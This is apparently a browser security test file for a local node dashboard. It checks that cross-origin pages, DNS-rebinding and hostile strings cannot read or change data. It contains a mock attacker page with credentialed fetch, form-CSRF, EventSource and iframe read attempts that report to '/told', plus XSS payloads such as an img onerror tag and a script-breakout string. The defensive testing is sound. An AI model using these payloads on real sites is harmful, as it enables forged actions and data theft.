// What other pages and hostile words try on a node's page.

import { createServer } from "node:http";

import { call, check, link, same, until, view } from "./harness.mjs";
import { HOSTILE } from "./hostile.mjs";

/** A server of an attacker on another port of the same machine, and what it was told. */
async function attacker(place) {
  const told = [];
  const cookies = [];
  const server = createServer((request, response) => {
    cookies.push(request.headers.cookie ?? "");
    if (request.url.startsWith("/told")) told.push(decodeURIComponent(request.url.slice(6)));
    response.setHeader("Content-Type", "text/html");
    response.end(`<!doctype html><title>a page</title><iframe name="frame"></iframe>
      <form method="post" target="frame" enctype="text/plain" action="${place}/v1/call/hub/people.create">
        <input name='{"name":"Mallory' value='"}'></form>
      <script>
        const tell = (what) => fetch("/told?" + encodeURIComponent(what));
        const at = (path) => "${place}" + path;
        const json = { "Content-Type": "application/json" };
        const tries = [
          fetch(at("/v1/status"), { credentials: "include" }).then((r) => r.text()),
          fetch(at("/v1/exchange"), { credentials: "include" }).then((r) => r.text()),
          fetch(at("/v1/call/hub/people.create"), { method: "POST", credentials: "include", headers: json, body: '{"name":"Mallory"}' }).then((r) => r.text()),
          fetch(at("/v1/call/hub/people.create"), { method: "POST", mode: "no-cors", credentials: "include", body: '{"name":"Mallory"}' }).then((r) => r.text()),
          new Promise((done, fail) => {
            const events = new EventSource(at("/v1/status/live"), { withCredentials: true });
            events.addEventListener("status", (event) => done(event.data));
            events.onerror = () => fail(events.close());
          }),
          new Promise((done, fail) => {
            const frame = document.createElement("iframe");
            frame.src = at("/");
            frame.onload = () => { try { done(frame.contentDocument?.body.innerText ?? ""); } catch (e) { fail(e); } };
            document.body.append(frame);
          }),
        ];
        Promise.allSettled(tries).then((all) => {
          for (const one of all) if (one.status === "fulfilled" && one.value) tell("read: " + one.value);
          document.forms[0].submit();
          tell("done");
        });
      </script>`);
  });
  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
  return { told, cookies, place: `http://127.0.0.1:${server.address().port}`, close: () => server.close() };
}

const names = async () => (await call("hub", "people.list", {})).people.map(({ name }) => name);

async function a_page_on_another_port_changes_and_reads_nothing(browser) {
  const one = await browser();
  const page = await one.at("desk");
  const evil = await attacker(new URL(page.url()).origin);
  const other = await one.context.newPage();
  await other.goto(evil.place);
  await until("the attack has been tried", () => evil.told.includes("done"));
  await other.waitForTimeout(500);
  same(evil.told, ["done"], "what the attacker could read");
  check(!(await names()).includes("Mallory"), "a person was created by another page");
  check(!evil.cookies.some((cookie) => cookie.includes("bothways")), "the attacker was given the cookie");
  evil.close();
  await page.reload();
  await page.getByTestId("node-card-hub").waitFor();
}

async function a_name_that_was_rebound_to_this_machine_opens_nothing(browser) {
  const one = await browser({ args: ["--host-resolver-rules=MAP evil.example 127.0.0.1"] });
  const opened = new URL(await link("desk"));
  const page = await one.context.newPage();
  const answer = await page.goto(`http://evil.example:${opened.port}/${opened.hash}`);
  same(answer.status(), 421, "the status");
  const read = await page.evaluate(() => fetch("/v1/open", { method: "POST", headers: { "Content-Type": "application/json" }, body: "{}" }).then((r) => r.status));
  same(read, 421, "the status of an API call");
}

async function hostile_words_of_peers_are_shown_as_they_are(browser) {
  const one = await browser();
  const page = await one.at("desk");
  const { names: people, texts } = HOSTILE;
  check(people.length + texts.length >= 30, "there should be thirty");
  for (const name of people) await call("hub", "people.create", { name, title: name });
  for (const text of texts) await call("hub", "messages.send", { to: "desk", text });
  await view(page, "people", "?peer=hub");
  for (const name of people) {
    const row = page.getByTestId("person-row").filter({ hasText: name });
    await row.first().waitFor();
    const { height } = await row.first().boundingBox();
    check(height < 120, `${name} takes ${height} px`);
  }
  await view(page, "messages", "?peer=hub");
  for (const text of texts) {
    const start = text.split("\n")[0];
    await page.locator("main").getByText(start, { exact: false }).first().waitFor();
  }
  same(await page.evaluate(() => document.querySelectorAll("main script, main iframe, main object, main img[src='x']").length), 0, "elements made of words");
  same(await page.evaluate(() => globalThis.pwned), undefined, "a script of theirs");
}

async function hostile_names_of_methods_and_nodes_stay_one_line(browser) {
  const one = await browser();
  const page = await one.at("desk");
  const words = ["<img src=x onerror=alert(1)>", "a\nb\r\nforged line", "\u001b[31mred\u001b[0m", "\u202Egnp.exe", "\u0000\u0007", "</script><script>pwned=1</script>"];
  const record = (method, n) => ({ span_id: String(n).padStart(16, "0"), from: "desk", to: "hub", method, code: "ok", started_us: Date.now() * 1000 + n, duration_us: 100, attempt: 1, deadline_ms: 1000, sent_bytes: 1, received_bytes: 1, lost: null });
  await page.route("**/v1/exchange?*", (route) => route.fulfill({ json: {
    exchanges: words.map((method, n) => ({ trace_id: String(n).padStart(32, "0"), requests: [record(method, n)] })), nodes: [], missing: [words[1]] } }));
  await page.route("**/v1/methods/hub", (route) => route.fulfill({ json: {
    methods: words.map((name) => ({ name, effect: "reads", about: name, params: { type: "object", properties: { [name]: { type: "string", description: name, title: name } } }, result: {}, example: { [name]: name } })) } }));
  await view(page, "exchange");
  await page.getByTestId("exchange-row").nth(words.length - 1).waitFor();
  await view(page, "methods", "?peer=hub");
  await page.locator("main").getByText("<img src=x onerror=alert(1)>").first().waitFor();
  const shown = await page.evaluate(() => document.querySelector("main").innerText);
  check(!/[\u0000-\u0008\u000b-\u001f\u202e]/.test(shown), "control characters are shown raw");
  same(await page.evaluate(() => document.querySelectorAll("main script, main img[src='x']").length), 0, "elements made of words");
}

export const attacks = [
  a_page_on_another_port_changes_and_reads_nothing,
  a_name_that_was_rebound_to_this_machine_opens_nothing,
  hostile_words_of_peers_are_shown_as_they_are,
  hostile_names_of_methods_and_nodes_stay_one_line,
];
